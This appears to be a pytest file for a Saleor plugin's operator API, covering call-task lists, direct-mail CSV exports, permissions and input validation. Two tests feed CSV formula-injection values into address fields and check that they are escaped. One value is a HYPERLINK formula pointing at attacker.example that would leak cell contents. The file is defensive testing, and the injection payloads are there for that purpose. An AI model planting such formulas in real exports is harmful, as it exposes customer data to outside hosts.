"""Call tasks and direct mail over the operator API."""

import csv
import io

import pytest

from saleor_stepmail.engine.dispatch import dispatch_due
from saleor_stepmail.engine.enrollment import record_event
from saleor_stepmail.models import CallTask, DirectMailRow
from tests.engine.channels.test_offline import ADDRESS, offline_order
from tests.factories import make_scenario

from .conftest import gid, no_errors

pytestmark = pytest.mark.django_db

TASKS = """
query($state: StepmailCallTaskState) {
  stepmailCallTasks(first: 10, state: $state) {
    totalCount edges { node { id phone state email scenarioSlug delivery { state } } }
  }
}
"""
CSV = "query($state: StepmailCallTaskState) { stepmailCallTasksCsv(state: $state) }"
COMPLETE = """
mutation($id: ID!, $note: String) {
  stepmailCallTaskComplete(id: $id, note: $note) {
    callTask { state doneBy doneAt note } errors { field message code }
  }
}
"""
EXPORT = """
mutation($batch: String) {
  stepmailDirectMailExport(batch: $batch) { batch count csv errors { field message code } }
}
"""


@pytest.fixture
def call_task(clock):
    make_scenario(slug="thanks-call", delays=(0,)).steps.update(channel="call_task")
    record_event(offline_order(clock.now))
    dispatch_due(now=clock.advance(minutes=1))
    return CallTask.objects.get()


def test_support_lists_open_call_tasks_and_exports_them_as_csv(api, call_task):
    listed = api(TASKS, {"state": "OPEN"}, token="support")["data"]["stepmailCallTasks"]
    csv = api(CSV, {"state": "OPEN"}, token="support")["data"]["stepmailCallTasksCsv"]

    assert listed["totalCount"] == 1
    assert listed["edges"][0]["node"] == {
        "id": gid("StepmailCallTask", call_task.pk),
        "phone": "+81751234567",
        "state": "OPEN",
        "email": "hana@example.com",
        "scenarioSlug": "thanks-call",
        "delivery": {"state": "SENT"},
    }
    assert csv.startswith("\ufeffid,state,phone,email,scenario,step,order,created_at\r\n")
    assert f"{call_task.pk},open,'+81751234567,hana@example.com,thanks-call" in csv


def test_a_phone_written_as_a_formula_reaches_the_call_list_csv_as_text(api, clock):
    make_scenario(slug="thanks-call", delays=(0,)).steps.update(channel="call_task")
    event = offline_order(clock.now)
    event.context["order"]["shipping_address"] = {**ADDRESS, "phone": "=1+2"}
    record_event(event)
    dispatch_due(now=clock.advance(minutes=1))

    text = api(CSV, {"state": "OPEN"}, token="support")["data"]["stepmailCallTasksCsv"]

    [row] = csv.DictReader(io.StringIO(text.removeprefix("\ufeff")))
    assert row["phone"] == "'=1+2"


def test_staff_mark_a_call_done_once(api, call_task, clock):
    variables = {"id": gid("StepmailCallTask", call_task.pk), "note": "留守電"}

    done = no_errors(api(COMPLETE, variables, token="support"), "stepmailCallTaskComplete")
    again = api(COMPLETE, variables, token="support")["data"]["stepmailCallTaskComplete"]

    assert done["callTask"]["state"] == "DONE"
    assert done["callTask"]["doneBy"] == "support@shop.test"
    assert done["callTask"]["note"].endswith("留守電")
    assert again["errors"][0]["message"] == "the call task was already done by support@shop.test"
    assert (
        api(TASKS, {"state": "OPEN"}, token="support")["data"]["stepmailCallTasks"]["totalCount"]
        == 0
    )


def test_call_tasks_need_manage_orders(api, call_task):
    denied = api(TASKS, token="designer")
    complete = api(COMPLETE, {"id": gid("StepmailCallTask", call_task.pk)}, token="designer")

    assert "MANAGE_ORDERS" in denied["errors"][0]["message"]
    assert complete["data"]["stepmailCallTaskComplete"]["errors"][0]["code"] == "PERMISSION_DENIED"


def test_a_shipping_name_written_as_a_formula_reaches_the_printers_csv_as_text(api, clock):
    make_scenario(slug="catalogue", delays=(0,)).steps.update(channel="dm_export")
    event = offline_order(clock.now)
    formula = '=HYPERLINK("https://attacker.example/?"&A1,"Open")'
    event.context["order"]["shipping_address"] = {
        **ADDRESS, "last_name": formula, "first_name": " +1+1", "city": "@SUM(1)"
    }  # fmt: skip
    record_event(event)
    dispatch_due(now=clock.advance(minutes=1))

    export = no_errors(api(EXPORT, token="support"), "stepmailDirectMailExport")

    [row] = csv.DictReader(io.StringIO(export["csv"].removeprefix("\ufeff")))
    assert (row["last_name"], row["first_name"], row["city"]) == (
        "'" + formula, "' +1+1", "'@SUM(1)"
    )  # fmt: skip


def test_direct_mail_export_returns_the_printers_csv_once(api, clock):
    make_scenario(slug="catalogue", delays=(0,)).steps.update(channel="dm_export")
    record_event(offline_order(clock.now))
    dispatch_due(now=clock.advance(minutes=1))

    first = no_errors(api(EXPORT, token="support"), "stepmailDirectMailExport")
    second = no_errors(api(EXPORT, token="support"), "stepmailDirectMailExport")
    replay = no_errors(
        api(EXPORT, {"batch": first["batch"]}, token="support"), "stepmailDirectMailExport"
    )

    assert first["count"] == 1 and first["csv"].startswith("\ufeff")
    assert "四条通 1-2-3" in first["csv"]
    assert DirectMailRow.objects.get().batch == first["batch"]
    assert (second["batch"], second["count"]) == ("", 0)
    assert replay["csv"] == first["csv"]


def test_a_lone_surrogate_in_the_export_batch_is_a_field_error_not_a_server_error(api):
    answer = api(EXPORT, {"batch": "\ud800"}, token="support")

    assert answer["data"]["stepmailDirectMailExport"]["errors"] == [
        {
            "field": "batch",
            "message": "must not contain lone surrogates (\\ud800-\\udfff), which UTF-8 "
            "cannot encode",
            "code": "INVALID",
        }
    ]
